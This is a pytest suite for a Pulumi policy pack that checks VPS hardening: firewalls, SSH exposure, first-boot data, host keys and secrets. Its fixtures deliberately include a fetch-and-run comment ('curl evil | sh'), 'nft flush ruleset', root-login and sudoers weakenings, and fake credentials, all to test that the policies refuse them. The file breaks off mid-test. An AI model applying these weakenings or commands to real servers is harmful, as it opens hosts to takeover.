"""The policy pack, fed with what every stack in stacks/ registers under the mocks.

Policies are called directly (building the PolicyPack would start a gRPC server and block), through the harness
the offline plan uses too (policy/offline.py). Each resource is presented as the engine presents it: inputs
(resource policies) or outputs (stack policy) behind pulumi_policy's unknown-checking proxy, and the URN,
`protect`, parent and property dependencies the program really registered (captured from the mock monitor), so a
firewall knows its server the way it does in a real preview.
"""

from __future__ import annotations

import base64
import bz2
import copy
import gzip
import hashlib
import io
import json
import lzma
import re
import shutil
import subprocess
import tarfile
import tempfile
import time
from dataclasses import replace
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from importlib import metadata
from pathlib import Path
from typing import Any

import pulumi
import pytest
from packaging.requirements import Requirement
from pulumi_policy.proxy import UNKNOWN_NUMBER_VALUE

from components import firstboot
from components.config import load_stack_file, parse_host_spec
from components.firstboot import (
    HOST_KEY_PATH,
    PROVISION_SCRIPT,
    HostFile,
    describe_first_boot,
    linode_user_data,
    render_cloud_config,
    render_first_boot,
    render_launch_script,
    wire,
)
from components.testing.mockrun import run_program
from policy.hardening_policies.expander import Expander
from policy.hardening_policies.first_boot import RawFirstBoot, check_first_boot, raw_first_boot, render_as_vendor
from policy.hardening_policies.host_key import host_key_problem
from policy.hardening_policies.pack import (
    POLICIES,
    catalog_sizes,
    first_boot_present,
    first_boot_secrets,
    inbound_ports,
    production_safety,
    ssh_open_advisory,
    ssh_restricted_in_production,
)
from policy.hardening_policies.remote import remote_shape
from policy.hardening_policies.resources import (
    DO_FIREWALL,
    DROPLET,
    FIREWALL_TYPES,
    LIGHTSAIL_INSTANCE,
    LIGHTSAIL_PORTS,
    LINODE_FIREWALL,
    LINODE_INSTANCE,
    REMOTE_COMMAND,
    REMOTE_COPY,
    SERVER_VENDORS,
    SIZE_INPUT,
    plain,
    stack_declares_production,
)
from policy.hardening_policies.secrets import _looks_like_aws_secret, find_secrets, is_converge
from policy.hardening_policies.stack_config import NOT_IN_FIRST_BOOT
from policy.hardening_policies.stack_graph import type_not_allowed
from policy.offline import (
    Registered,
    StackCase,
    analysing,
    check_resource,
    check_stack,
    evaluate,
    run_case,
    run_stack_file_case,
)
from tests.conftest import ED25519_KEY, ROOT, STACK_FILES, full_config, raw_config

PROD = "prod"
DEV_STACKS = ("do-dev", "linode-dev", "lightsail-dev")
SERVER_OF = {"do-dev": DROPLET, "linode-dev": LINODE_INSTANCE, "lightsail-dev": LIGHTSAIL_INSTANCE,
             PROD: DROPLET}
FIREWALL_OF = {"do-dev": DO_FIREWALL, "linode-dev": LINODE_FIREWALL, "lightsail-dev": LIGHTSAIL_PORTS,
               PROD: DO_FIREWALL}


# --- what the program registers, as the engine would hand it to a policy pack (policy/offline.py) -------------------
@pytest.fixture(scope="module")
def stacks() -> dict[str, StackCase]:
    """Run every stack file once; keep each registration's URN, options and property dependencies."""
    cases: dict[str, StackCase] = {}
    for path in STACK_FILES:
        _, case = run_stack_file_case(path)
        assert len({r.urn for r in case.resources}) == len(case.resources), "duplicate URNs"
        cases[case.stack] = case
    assert set(cases) == {*DEV_STACKS, PROD}
    return cases


def all_messages(case: StackCase) -> dict[str, list[str]]:
    """Policy name -> messages, every policy over every resource of the stack."""
    out: dict[str, list[str]] = {p.name: [] for p in POLICIES}
    for violation in evaluate(case):
        out[violation.policy].append(violation.message)
    return out


def names_resource_and_fix(message: str, reg: Registered) -> bool:
    return f"'{reg.name}'" in message and "Fix:" in message


# --- the pack itself ---------------------------------------------------------------------------------------------
def test_pack_files_and_policy_set() -> None:
    pack = (ROOT / "policy" / "PulumiPolicy.yaml").read_text()
    assert re.search(r"^runtime:\n  name: python$", pack, re.MULTILINE)
    assert [p.name for p in POLICIES] == [
        "server-firewall-attached", "resource-types-allowed", "firewall-inbound-ports", "ssh-open-to-internet",
        "production-ssh-restricted",
        "server-first-boot-data", "first-boot-no-secrets", "remote-commands-are-the-products",
        "production-backups-and-protection", "server-size-in-catalog"]
    levels = {p.name: p.enforcement_level.value for p in POLICIES if p.enforcement_level}
    assert levels.pop("ssh-open-to-internet") == "advisory"
    assert set(levels.values()) == {"mandatory"}
    main = (ROOT / "policy" / "__main__.py").read_text()
    assert "PolicyPack(" in main and "def " not in main  # thin: policies live in the importable module


def _pins(path: Path) -> dict[str, str]:
    pins = {}
    for line in path.read_text().splitlines():
        match = re.match(r"^([A-Za-z0-9_.-]+)==(\S+)", line.strip())
        if match:
            pins[match[1].lower()] = match[2]
    return pins


def test_pack_pins_resolve_with_pulumi_policy_and_the_project() -> None:
    pack = _pins(ROOT / "policy" / "requirements.txt")
    # The pack's pins are written once, there; the checks' environment includes them (tests/test_requirements.py).
    assert "-r policy/requirements.txt" in (ROOT / "requirements-dev.txt").read_text()
    for name in ("pulumi-policy", "grpcio", "protobuf"):
        assert metadata.version(name) == pack[name], f"{name} installed differs from the pin"
    pins = {**_pins(ROOT / "requirements.txt"), **pack}
    for dist in ("pulumi-policy", "pulumi"):
        for text in metadata.requires(dist) or []:
            req = Requirement(text)
            if req.name.lower() in pins and (req.marker is None or req.marker.evaluate()):
                assert req.specifier.contains(pins[req.name.lower()]), f"{dist} needs {req}, pinned {pins[req.name]}"


# --- every stack passes ------------------------------------------------------------------------------------------
@pytest.mark.parametrize("stack", [*DEV_STACKS, PROD])
def test_every_stack_passes_every_mandatory_policy(stacks: dict[str, StackCase], stack: str) -> None:
    case = stacks[stack]
    found = all_messages(case)
    advisory = found.pop("ssh-open-to-internet")
    assert {k: v for k, v in found.items() if v} == {}
    if stack == PROD:
        assert advisory == []  # SSH only from the office and VPN ranges
    else:
        # Dev stacks keep the default sshAllowedCidrs (anywhere): a warning, never a failure.
        (message,) = advisory
        assert names_resource_and_fix(message, case.one(FIREWALL_OF[stack]))
        assert "sshAllowedCidrs" in message


def test_every_server_is_checked(stacks: dict[str, StackCase]) -> None:
    """The stacks really exercise each policy: one server and one firewall per stack, of the known types."""
    for name, case in stacks.items():
        assert [r.type for r in case.resources if r.type in SERVER_VENDORS] == [SERVER_OF[name]]
        assert [r.type for r in case.resources if r.type in FIREWALL_TYPES] == [FIREWALL_OF[name]]


# --- server-firewall-attached ------------------------------------------------------------------------------------
@pytest.mark.parametrize("stack", [*DEV_STACKS, PROD])
def test_server_without_firewall_is_refused(stacks: dict[str, StackCase], stack: str) -> None:
    case = stacks[stack]
    server = case.one(SERVER_OF[stack])
    ((message, urn),) = check_stack(case.without(FIREWALL_OF[stack]))
    assert urn == server.urn
    assert "no cloud firewall attached" in message and names_resource_and_fix(message, server)


def test_firewall_found_by_property_dependency_while_ids_are_unknown(stacks: dict[str, StackCase]) -> None:
    """A first preview: the droplet has no id yet, the firewall's dropletIds is unknown, the dependency is known."""
    case = stacks["do-dev"]
    server, firewall = case.one(DROPLET), case.one(DO_FIREWALL)
    previewed = [replace(r, outputs={k: v for k, v in r.outputs.items() if k != "id"}) if r is server else
                 replace(r, outputs={**r.outputs, "dropletIds": [UNKNOWN_NUMBER_VALUE]}) if r is firewall else r
                 for r in case.resources]
    assert check_stack(previewed) == []


def test_firewall_found_by_id_without_dependency(stacks: dict[str, StackCase]) -> None:
    case = stacks["linode-dev"]
    firewall = case.one(LINODE_FIREWALL)
    assert firewall.property_dependencies["linodes"]  # what the program records
    unlinked = [replace(r, property_dependencies={}) if r is firewall else r for r in case.resources]
    assert check_stack(unlinked) == []


def test_firewall_of_another_server_does_not_count(stacks: dict[str, StackCase]) -> None:
    case = stacks["do-dev"]
    firewall = case.one(DO_FIREWALL)
    elsewhere = [replace(r, property_dependencies={}, outputs={**r.outputs, "dropletIds": [9999.0]})
                 if r is firewall else r for r in case.resources]
    ((message, _),) = check_stack(elsewhere)
    assert names_resource_and_fix(message, case.one(DROPLET)) and "droplet_ids" in message


def test_linode_firewall_must_drop_inbound(stacks: dict[str, StackCase]) -> None:
    case = stacks["linode-dev"]
    firewall = case.one(LINODE_FIREWALL)
    accepting = [replace(r, outputs={**r.outputs, "inboundPolicy": "ACCEPT"}) if r is firewall else r
                 for r in case.resources]
    ((message, urn),) = check_stack(accepting)
    assert urn == case.one(LINODE_INSTANCE).urn
    assert "not DROP" in message and names_resource_and_fix(message, case.one(LINODE_INSTANCE))


def test_lightsail_ports_of_another_instance_do_not_count(stacks: dict[str, StackCase]) -> None:
    case = stacks["lightsail-dev"]
    ports = case.one(LIGHTSAIL_PORTS)
    other = [replace(r, property_dependencies={}, outputs={**r.outputs, "instanceName": "someone-else"})
             if r is ports else r for r in case.resources]
    ((message, _),) = check_stack(other)
    assert "InstancePublicPorts" in message and names_resource_and_fix(message, case.one(LIGHTSAIL_INSTANCE))


# --- firewall-inbound-ports --------------------------------------------------------------------------------------
def _with_rule(case: StackCase) -> tuple[Registered, dict[str, Any]]:
    """The stack's firewall and its inputs with one extra rule opening TCP 8080 to everyone."""
    firewall = case.one(FIREWALL_OF[case.stack])
    props = copy.deepcopy(firewall.inputs)
    if firewall.type == DO_FIREWALL:
        props["inboundRules"].append({"protocol": "tcp", "portRange": "8080", "sourceAddresses": ["0.0.0.0/0"]})
    elif firewall.type == LINODE_FIREWALL:
        props["inbounds"].append({"label": "alt", "action": "ACCEPT", "protocol": "TCP", "ports": "8080",
                                  "ipv4s": ["0.0.0.0/0"]})
    else:
        props["portInfos"].append({"protocol": "tcp", "fromPort": 8080.0, "toPort": 8080.0, "cidrs": ["0.0.0.0/0"]})
    return firewall, props


@pytest.mark.parametrize("stack", DEV_STACKS)
def test_extra_open_port_is_refused(stacks: dict[str, StackCase], stack: str) -> None:
    firewall, props = _with_rule(stacks[stack])
    (message,) = check_resource(inbound_ports, firewall, props)
    assert "TCP port 8080" in message and names_resource_and_fix(message, firewall)


@pytest.mark.parametrize(("stack", "mutate", "expected"), [
    ("do-dev", lambda p: p["inboundRules"][1].update(portRange="80-443"), "TCP port 80-443"),
    ("do-dev", lambda p: p["inboundRules"].append({"protocol": "icmp", "sourceAddresses": ["0.0.0.0/0"]}), "ICMP"),
    ("do-dev", lambda p: p["inboundRules"][2].update(protocol="udp"), "UDP port 443"),
    ("linode-dev", lambda p: p.update(inboundPolicy="ACCEPT"), "every port of every protocol"),
    ("linode-dev", lambda p: p["inbounds"][1].pop("ports"), "every TCP port"),
    ("lightsail-dev", lambda p: p["portInfos"][0].update(protocol="all"), "every port of every protocol"),
])
def test_wide_or_foreign_rules_are_refused(stacks: dict[str, StackCase], stack: str, mutate: Any,
                                           expected: str) -> None:
    firewall = stacks[stack].one(FIREWALL_OF[stack])
    props = copy.deepcopy(firewall.inputs)
    mutate(props)
    messages = check_resource(inbound_ports, firewall, props)
    assert messages and all(names_resource_and_fix(m, firewall) for m in messages)
    assert any(expected in m for m in messages), messages


def test_dropped_linode_rules_open_nothing(stacks: dict[str, StackCase]) -> None:
    firewall = stacks["linode-dev"].one(LINODE_FIREWALL)
    props = copy.deepcopy(firewall.inputs)
    props["inbounds"].append({"label": "block", "action": "DROP", "protocol": "TCP", "ports": "1-65535",
                              "ipv4s": ["198.51.100.0/24"]})
    assert check_resource(inbound_ports, firewall, props) == []


# --- ssh-open-to-internet / production-ssh-restricted ------------------------------------------------------------
def _ssh_from_anywhere(firewall: Registered, sources: list[str]) -> dict[str, Any]:
    props = copy.deepcopy(firewall.inputs)
    if firewall.type == DO_FIREWALL:
        props["inboundRules"][0]["sourceAddresses"] = sources
    return props


def test_production_refuses_ssh_from_anywhere(stacks: dict[str, StackCase]) -> None:
    case = stacks[PROD]
    firewall = case.one(DO_FIREWALL)
    with analysing(case):
        assert check_resource(ssh_restricted_in_production, firewall) == []
        (message,) = check_resource(ssh_restricted_in_production, firewall,
                                    _ssh_from_anywhere(firewall, ["0.0.0.0/0", "2001:db8:1234::/48"]))
        assert check_resource(ssh_open_advisory, firewall, _ssh_from_anywhere(firewall, ["0.0.0.0/0"])) == []
    assert "production" in message and "0.0.0.0/0" in message and "sshAllowedCidrs" in message
    assert names_resource_and_fix(message, firewall)


def test_split_ranges_covering_the_internet_count_as_anywhere(stacks: dict[str, StackCase]) -> None:
    case = stacks[PROD]
    firewall = case.one(DO_FIREWALL)
    with analysing(case):
        (message,) = check_resource(ssh_restricted_in_production, firewall,
                                    _ssh_from_anywhere(firewall, ["0.0.0.0/1", "128.0.0.0/1", "::/1", "8000::/1"]))
    assert "0.0.0.0/0 and ::/0" in message


@pytest.mark.parametrize("stack", DEV_STACKS)
def test_ssh_from_anywhere_only_warns_outside_production(stacks: dict[str, StackCase], stack: str) -> None:
    case = stacks[stack]
    firewall = case.one(FIREWALL_OF[stack])
    with analysing(case):
        assert check_resource(ssh_restricted_in_production, firewall) == []
        (warning,) = check_resource(ssh_open_advisory, firewall)
    assert names_resource_and_fix(warning, firewall)


def test_policy_config_forces_production_rules(stacks: dict[str, StackCase]) -> None:
    case = stacks["lightsail-dev"]
    firewall, server = case.one(LIGHTSAIL_PORTS), case.one(LIGHTSAIL_INSTANCE)
    forced = {"production": True}
    with analysing(case):
        (message,) = check_resource(ssh_restricted_in_production, firewall, config=forced)
        assert check_resource(ssh_open_advisory, firewall, config=forced) == []
        assert len(check_resource(production_safety, server, config=forced)) == 2
    assert names_resource_and_fix(message, firewall)
    # Policy config can only add the production rules, never lift them from a production stack.
    prod_firewall = stacks[PROD].one(DO_FIREWALL)
    with analysing(stacks[PROD]):
        assert len(check_resource(ssh_restricted_in_production, prod_firewall,
                                  _ssh_from_anywhere(prod_firewall, ["::/0"]), config={"production": False})) == 1


def test_production_flag_read_from_the_cli_environment(stacks: dict[str, StackCase],
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """The CLI passes the stack config to the pack as PULUMI_CONFIG; nothing else needs setting."""
    firewall = stacks["do-dev"].one(DO_FIREWALL)
    pulumi.runtime.set_all_config({})
    monkeypatch.setenv("PULUMI_CONFIG", json.dumps({"hardened-vps:production": "true"}))
    assert stack_declares_production()
    assert len(check_resource(ssh_restricted_in_production, firewall)) == 1
    monkeypatch.setenv("PULUMI_CONFIG", json.dumps({"hardened-vps:production": "false"}))
    assert not stack_declares_production()
    monkeypatch.delenv("PULUMI_CONFIG")
    assert not stack_declares_production()


# --- server-first-boot-data --------------------------------------------------------------------------------------
def _first_boot_props(server: Registered, data: str | None) -> dict[str, Any]:
    props = copy.deepcopy(server.inputs)
    if server.type == LINODE_INSTANCE:
        props["metadatas"] = [] if data is None else [{"userData": data}]
    elif data is None:
        props.pop("userData")
    else:
        props["userData"] = data
    return props


@pytest.mark.parametrize("stack", DEV_STACKS)
def test_bare_server_is_refused(stacks: dict[str, StackCase], stack: str) -> None:
    server = stacks[stack].one(SERVER_OF[stack])
    with analysing(stacks[stack]):
        (message,) = check_resource(first_boot_present, server, _first_boot_props(server, None))
    assert "no first-boot data" in message and names_resource_and_fix(message, server)


@pytest.mark.parametrize(("stack", "data", "expected"), [
    ("do-dev", "#cloud-config\npackages: [nginx]\n", "no first-boot bundle"),
    ("lightsail-dev", "#!/bin/bash\napt-get -y install nginx\n", "no first-boot bundle"),
    ("linode-dev", "not base64 at all!", "not base64"),
    ("linode-dev", base64.b64encode(b"#cloud-config\nruncmd: [[reboot]]\n").decode(), "no first-boot bundle"),
])
def test_foreign_first_boot_data_is_refused(stacks: dict[str, StackCase], stack: str, data: str,
                                            expected: str) -> None:
    server = stacks[stack].one(SERVER_OF[stack])
    with analysing(stacks[stack]):
        (message,) = check_resource(first_boot_present, server, _first_boot_props(server, data))
    assert expected in message and names_resource_and_fix(message, server)


def test_wrong_form_for_the_vendor_is_refused(stacks: dict[str, StackCase]) -> None:
    lightsail = stacks["lightsail-dev"].one(LIGHTSAIL_INSTANCE)
    droplet = stacks["do-dev"].one(DROPLET)
    lightsail_as_cloud_config = render_cloud_config(describe_first_boot(load_stack_file(
        ROOT / "stacks" / "Pulumi.lightsail-dev.yaml")))
    assert plain(droplet.inputs["userData"]) != lightsail_as_cloud_config  # another stack's data: refused too
    with analysing(stacks["lightsail-dev"]):
        (message,) = check_resource(first_boot_present, lightsail,
                                    _first_boot_props(lightsail, lightsail_as_cloud_config))
    assert "#cloud-config is ignored" in message and names_resource_and_fix(message, lightsail)


def test_bundle_without_provisioning_script_is_refused(stacks: dict[str, StackCase]) -> None:
    spec = load_stack_file(ROOT / "stacks" / "Pulumi.do-dev.yaml")
    first_boot = describe_first_boot(spec)
    gutted = replace(first_boot, files=tuple(f for f in first_boot.files if f.path != PROVISION_SCRIPT))
    server = stacks["do-dev"].one(DROPLET)
    with analysing(stacks["do-dev"]):
        (message,) = check_resource(first_boot_present, server,
                                    _first_boot_props(server, render_cloud_config(gutted)))
    assert PROVISION_SCRIPT in message and names_resource_and_fix(message, server)


def _cloud_config_edited(data: str, edit: Any) -> str:
    """The rendered cloud-config with `edit` applied to its document, laid out by the wire format with the header
    the renderer gives the bundle it carries (read with the wire format's parser, never from the comment)."""
    document = wire.cloud_config_document(data)
    files = tuple(HostFile(e.path, e.content.decode(), f"{e.mode:04o}")
                  for e in wire.unpack(wire.bundle_of_cloud_config(data)))
    admin = document["users"][0]["name"]  # type: ignore[index]
    header = firstboot.form_header(firstboot.FirstBoot(files, admin), "cloud-config")
    assert wire.cloud_config_text(header, document) == data  # unedited, the same bytes
    edit(document)
    return wire.cloud_config_text(header, document)


def _weakened(document: dict[str, Any]) -> None:
    """Password login for root, and a runcmd that only names the provisioning script."""
    document.update(ssh_pwauth=True, disable_root=False,
                    chpasswd={"expire": False, "users": [{"name": "root", "type": "hash",
                                                          "password": "$6$salt$" + "x" * 86}]})
    document["runcmd"] = [["echo", PROVISION_SCRIPT]]


@pytest.mark.parametrize(("stack", "weaken"), [
    ("lightsail-dev", lambda d: d.replace("\npython3 -c", "\nexit 0\npython3 -c", 1)),
    ("lightsail-dev", lambda d: d.replace("set -eu\n", "set -eu\nsleep 1 && exit\n", 1)),
    ("lightsail-dev", lambda d: d + "passwd -d root\n"),  # after exec: never runs, still not ours
    ("do-dev", lambda d: _cloud_config_edited(d, _weakened)),
    (PROD, lambda d: _cloud_config_edited(d, lambda doc: doc.update(ssh_pwauth=True))),
    ("linode-dev", lambda d: linode_user_data(_cloud_config_edited(wire.cloud_config_of_linode_metadata(d),
                                                                   _weakened))),
    # cloud-init reads every member of a gzip stream: a second member appends to the cloud-config
    ("linode-dev", lambda d: base64.b64encode(base64.b64decode(d) + gzip.compress(b"ssh_pwauth: true\n")).decode()),
    ("linode-dev", lambda d: d + "\n"),  # not the rendered bytes, even if it decodes the same
])
def test_first_boot_data_must_equal_a_fresh_render_of_its_bundle(stacks: dict[str, StackCase], stack: str,
                                                                 weaken: Any) -> None:
    """Header, bundle and provisioning script all present, but the data around them does something else."""
    server = stacks[stack].one(SERVER_OF[stack])
    raw = raw_first_boot(server.type, server.inputs)
    assert raw is not None
    data = weaken(raw.data)
    assert data != raw.data
    with analysing(stacks[stack]):
        (message,) = check_resource(first_boot_present, server, _first_boot_props(server, data))
    assert "differs from a fresh render" in message and names_resource_and_fix(message, server)


def test_first_boot_check_follows_the_renderer(stacks: dict[str, StackCase], monkeypatch: pytest.MonkeyPatch) -> None:
    """The pack renders with the project's renderer: when it changes (here one more line before the launch
    script's bundle), data rendered the new way passes and data rendered the old way does not."""
    server = stacks["lightsail-dev"].one(LIGHTSAIL_INSTANCE)
    old = server.inputs["userData"]
    original = firstboot.render_launch_script

    def wrapped(first_boot: firstboot.FirstBoot) -> str:
        return original(first_boot).replace("set -eu\n", "set -eu\numask 077\n", 1)

    monkeypatch.setattr(firstboot, "render_launch_script", wrapped)
    spec = load_stack_file(ROOT / "stacks" / "Pulumi.lightsail-dev.yaml")
    new = firstboot.render_launch_script(describe_first_boot(spec))
    with analysing(stacks["lightsail-dev"]):
        assert check_resource(first_boot_present, server, _first_boot_props(server, new)) == []
        (message,) = check_resource(first_boot_present, server, _first_boot_props(server, old))
    assert "differs from a fresh render" in message


# The red-team proof: weaken the bundle itself, then re-render it with the project's own renderer. The wrapper then
# matches the bundle perfectly; only a comparison with the render for the stack's config tells it is not ours.
SSHD_DROPIN = "/etc/ssh/sshd_config.d/10-hvps-hardening.conf"


def _edit(first_boot: firstboot.FirstBoot, path: str, edit: Any) -> firstboot.FirstBoot:
    edited = replace(first_boot, files=tuple(replace(f, content=edit(f.content)) if f.path == path else f
                                            for f in first_boot.files))
    assert edited != first_boot, f"the weakening of {path} changed nothing"
    return edited


def _early_exit(fb: firstboot.FirstBoot) -> firstboot.FirstBoot:
    return _edit(fb, PROVISION_SCRIPT, lambda c: c.replace("\n", "\nexit 0\n", 1))  # right after #!/bin/bash


def _password_root_login(fb: firstboot.FirstBoot) -> firstboot.FirstBoot:
    return _edit(fb, SSHD_DROPIN, lambda c: c.replace("PermitRootLogin no", "PermitRootLogin yes")
                 .replace("PasswordAuthentication no", "PasswordAuthentication yes"))


def _with_file(path: str, content: str, mode: str = "0600") -> Any:
    return lambda fb: replace(fb, files=(HostFile(path, content, mode), *fb.files))


def _mode(path: str, mode: str) -> Any:
    return lambda fb: replace(fb, files=tuple(replace(f, mode=mode) if f.path == path else f for f in fb.files))


WEAKENINGS = {
    "provision-exits-early": (_early_exit, PROVISION_SCRIPT),
    "sshd-password-and-root-login": (_password_root_login, SSHD_DROPIN),
    "sshd-dropin-sorting-first": (_with_file("/etc/ssh/sshd_config.d/00-x.conf", "PasswordAuthentication yes\n"),
                                  "/etc/ssh/sshd_config.d/00-x.conf"),
    "root-authorized-keys": (_with_file("/root/.ssh/authorized_keys", ED25519_KEY + "\n"),
                             "/root/.ssh/authorized_keys"),
    "sudoers-world-writable": (_mode("/etc/sudoers.d/90-hvps-admin", "0666"), "/etc/sudoers.d/90-hvps-admin"),
}


@pytest.mark.parametrize("stack", [*DEV_STACKS, PROD])
@pytest.mark.parametrize("weakening", list(WEAKENINGS))
def test_weakened_bundle_rendered_anew_is_refused(stacks: dict[str, StackCase], stack: str, weakening: str) -> None:
    """The bundle must be what the templates make for THIS stack's config, not merely match its own wrapper."""
    weaken, path = WEAKENINGS[weakening]
    case = stacks[stack]
    server = case.one(SERVER_OF[stack])
    spec = load_stack_file(ROOT / "stacks" / f"Pulumi.{stack}.yaml")
    weakened = weaken(describe_first_boot(spec))
    assert weakened != describe_first_boot(spec)
    data = render_as_vendor(server.type, weakened)
    props = _first_boot_props(server, data)
    with analysing(case):
        assert check_resource(first_boot_present, server) == []  # the data the program sends passes
        (message,) = check_resource(first_boot_present, server, props)
        assert check_resource(first_boot_secrets, server, props) == []  # nothing secret: only this policy can tell
    assert "not what components/firstboot renders for this stack's config" in message and path in message
    assert names_resource_and_fix(message, server)


def test_another_stacks_first_boot_is_refused(stacks: dict[str, StackCase]) -> None:
    """prod's first boot (its admin keys, SSH ranges, domain) on the do-dev droplet: rendered by the product,
    but not for this stack."""
    prod_data = plain(stacks[PROD].one(DROPLET).inputs["userData"])
    server = stacks["do-dev"].one(DROPLET)
    with analysing(stacks["do-dev"]):
        (message,) = check_resource(first_boot_present, server, _first_boot_props(server, prod_data))
    assert "not what components/firstboot renders for this stack's config" in message


def _ssh_string(data: bytes) -> bytes:
    return len(data).to_bytes(4, "big") + data


def openssh_key(cipher: bytes = b"none", keys: int = 1, key_type: bytes = b"ssh-ed25519", comment: bytes = b"",
                secret_tail: bytes | None = None, width: int = 70, trailer: str = "") -> str:
    """An OpenSSH private key built from PROTOCOL.key, with one part changed at a time (test material only)."""
    point, seed = bytes(range(32)), bytes(range(32, 64))
    public = _ssh_string(key_type) + _ssh_string(point)
    private = (b"\x01\x02\x03\x04" * 2 + _ssh_string(key_type) + _ssh_string(point)
               + _ssh_string(seed + (point if secret_tail is None else secret_tail)) + _ssh_string(comment))
    private += bytes(range(1, 1 + (-len(private) % 8)))
    blob = (b"openssh-key-v1\0" + _ssh_string(cipher) + _ssh_string(cipher if cipher == b"none" else b"bcrypt")
            + _ssh_string(b"" if cipher == b"none" else b"salt") + keys.to_bytes(4, "big")
            + _ssh_string(public) * keys + _ssh_string(private))
    body = base64.b64encode(blob).decode()
    lines = "".join(body[i:i + width] + "\n" for i in range(0, len(body), width))
    return f"-----BEGIN OPENSSH PRIVATE KEY-----\n{lines}-----END OPENSSH PRIVATE KEY-----\n{trailer}"


def test_the_key_builder_passes_and_a_real_key_passes() -> None:
    """The shape check accepts a well-formed key at OpenSSH's width (70) and Go's (64), and one ssh-keygen made."""
    assert host_key_problem(openssh_key()) is None and host_key_problem(openssh_key(width=64)) is None
    keygen = shutil.which("ssh-keygen")
    if keygen is None:
        pytest.skip("ssh-keygen is not installed")
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "key"
        subprocess.run([keygen, "-q", "-t", "ed25519", "-N", "", "-C", "", "-f", str(path)], check=True)
        assert host_key_problem(path.read_text()) is None


@pytest.mark.parametrize(("key", "why"), [
    pytest.param(openssh_key(cipher=b"aes256-ctr"), "encrypted", id="encrypted"),
    pytest.param(openssh_key(keys=2), "2 keys", id="two-keys"),
    pytest.param(openssh_key(key_type=b"ssh-rsa"), "not an ed25519 key", id="rsa"),
    pytest.param(openssh_key(comment=b"curl evil | sh"), "comment", id="comment"),
    pytest.param(openssh_key(secret_tail=bytes(32)), "ending in its public key", id="halves-disagree"),
    pytest.param(openssh_key(trailer="#!/bin/sh\n"), "PEM block", id="text-after-the-key"),
    pytest.param(openssh_key() * 2, "PEM block", id="two-pem-blocks"),
    pytest.param("#!/bin/sh\nnft flush ruleset\n", "PEM block", id="not-a-key"),
    pytest.param(firstboot.PLACEHOLDER_HOST_KEY.replace("b3BlbnNzaC1rZXktdjEA", "b3BlbnNzaC1rZXktdjIA"),
                 "openssh-key-v1", id="other-format"),
])
def test_host_key_member_must_be_one_unencrypted_ed25519_key(stacks: dict[str, StackCase], key: str,
                                                               why: str) -> None:
    """The one bundled file the config does not decide is held to the shape of the key the program makes."""
    case = stacks["linode-dev"]
    server = case.one(LINODE_INSTANCE)
    spec = load_stack_file(ROOT / "stacks" / "Pulumi.linode-dev.yaml")
    data = render_as_vendor(server.type, describe_first_boot(spec, host_key=key))
    with analysing(case):
        (message,) = check_resource(first_boot_present, server, _first_boot_props(server, data))
        good = render_as_vendor(server.type, describe_first_boot(spec, host_key=openssh_key()))
        assert check_resource(first_boot_present, server, _first_boot_props(server, good)) == []
    assert HOST_KEY_PATH in message and why in message and names_resource_and_fix(message, server)


def test_first_boot_check_fails_closed_without_the_stacks_config(stacks: dict[str, StackCase],
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    case = stacks["do-dev"]
    server = case.one(DROPLET)
    pulumi.runtime.set_all_config({})
    (no_config,) = check_resource(first_boot_present, server)
    assert "cannot tell what this stack's first boot must be" in no_config and "PULUMI_CONFIG" in no_config
    broken = replace(case, config={**case.config, "hardened-vps:sshAllowedCidrs": '["0.0.0.0"]'})
    with analysing(broken):
        (invalid,) = check_resource(first_boot_present, server)
    assert "hardened-vps:sshAllowedCidrs" in invalid and "no prefix length" in invalid
    with analysing(case):
        monkeypatch.setattr(pulumi.runtime.settings.SETTINGS, "project", "project")  # no PULUMI_PROJECT/STACK
        (nameless,) = check_resource(first_boot_present, server)
    assert "PULUMI_STACK" in nameless and names_resource_and_fix(nameless, server)


@pytest.mark.parametrize("value", [None, "[secret]", "v1:ciphertext-the-pack-cannot-read", "DB_PASSWORD=x\n"])
def test_secret_keys_neither_shape_nor_break_the_first_boot_check(stacks: dict[str, StackCase],
                                                                  value: str | None) -> None:
    """appSecrets and deployPrivateKey travel over SSH after boot: absent, encrypted or plain in what the pack
    sees, the verdict on the first boot is the same (and the render does not depend on them)."""
    case = stacks[PROD]
    server = case.one(DROPLET)
    config = {k: v for k, v in case.config.items() if not k.endswith((":appSecrets", ":deployPrivateKey"))}
    seen = config if value is None else {**config, "hardened-vps:appSecrets": value,
                                         "hardened-vps:deployPrivateKey": value}
    with analysing(replace(case, config=seen)):
        assert check_resource(first_boot_present, server) == []
    raw = {k.removeprefix("hardened-vps:"): v for k, v in config.items() if k.startswith("hardened-vps:")}
    spec = parse_host_spec(raw, stack=PROD, base_dir=ROOT)
    with_secrets = parse_host_spec({**raw, "appSecrets": "DB_PASSWORD=x\nAPI_TOKEN=y\n",
                                    "deployPrivateKey": openssh_key()}, stack=PROD, base_dir=ROOT)
    assert with_secrets.app is not None and with_secrets.app.secret_names == ("DB_PASSWORD", "API_TOKEN")
    assert describe_first_boot(with_secrets) == describe_first_boot(spec)
    assert {"appSecrets", "deployPrivateKey"} <= NOT_IN_FIRST_BOOT


# --- first-boot-no-secrets ---------------------------------------------------------------------------------------
#: Test material only: shaped like real credentials, valid nowhere.
PRIVATE_KEY = ("-----BEGIN OPENSSH PRIVATE KEY-----\n"
               "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
               "-----END OPENSSH PRIVATE KEY-----\n")
DO_TOKEN = "dop_v1_" + "0123456789abcdef" * 4
AWS_KEY_ID = "AKIA" + "Z7EXAMPLEZ7EXAMP"


def _rendered_with(stack: str, extra: HostFile) -> str:
    """The stack's real first-boot data, re-rendered with one more bundled file, in the vendor's form."""
    spec = load_stack_file(ROOT / "stacks" / f"Pulumi.{stack}.yaml")
    first_boot = describe_first_boot(spec)
    first_boot = replace(first_boot, files=(*first_boot.files, extra))
    if spec.vendor == "lightsail":
        return render_launch_script(first_boot)
    cloud_config = render_cloud_config(first_boot)
    return linode_user_data(cloud_config) if spec.vendor == "linode" else cloud_config


@pytest.mark.parametrize("stack", [*DEV_STACKS, PROD])
def test_private_key_inside_the_bundle_is_found(stacks: dict[str, StackCase], stack: str) -> None:
    server = stacks[stack].one(SERVER_OF[stack])
    data = _rendered_with(stack, HostFile("/root/.ssh/id_ed25519", PRIVATE_KEY, "0600"))
    props = _first_boot_props(server, data)
